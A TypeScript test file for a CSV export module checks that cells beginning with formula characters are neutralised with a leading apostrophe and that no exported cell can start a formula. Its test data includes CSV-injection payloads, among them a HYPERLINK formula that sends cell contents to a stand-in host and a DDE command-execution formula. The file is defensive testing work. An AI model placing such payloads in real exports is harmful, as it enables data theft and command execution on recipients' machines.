import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvLines, shieldCell, unshieldCell } from "./csv";

const HOSTILE = [
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  " =1",
  "\u00a0=1",
  "\u200b=1",
  "\ufeff=1",
  "\u0000=1",
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
];

describe("a cell", () => {
  it.each(HOSTILE)("%j is a text, not a formula", (text) => {
    expect(shieldCell(text)).toBe(`'${text}`);
    expect(unshieldCell(`'${text}`)).toBe(text);
  });

  it.each(["Ana Reyes", "O'Brien", "1-2", "a@example.com", "17:30 = doors", "'", "", "日本", "Zoë"])(
    "%j stays as it is",
    (text) => {
      expect(shieldCell(text)).toBe(text);
    },
  );
});

describe("lines", () => {
  it("quote what is filled, double quotes, and end in CR LF", () => {
    expect(csvLines([["a", 'say "hi"', 3, null, ""]])).toBe('"a","say ""hi""","3",,\r\n');
  });

  it("cannot be broken out of: whatever the cells hold, they come back, and none begins a formula", () => {
    const cell = fc.oneof(fc.string({ unit: "binary" }), fc.constantFrom(...HOSTILE, '",=1', '"\r\n=1', ",", '"'));
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell, fc.constant("end")), { minLength: 1 }), (rows) => {
        const read: string[][] = parse(csvLines(rows), { record_delimiter: "\r\n" });
        expect(read).toEqual(rows.map((row) => row.map(shieldCell)));
        for (const one of read.flat()) expect(one).not.toMatch(/^(?:[\t\r\n]|\s*[=+\-@＝＋－＠])/u);
      }),
    );
  });

  it("are none for no rows", () => {
    expect(csvLines([])).toBe("");
  });
});
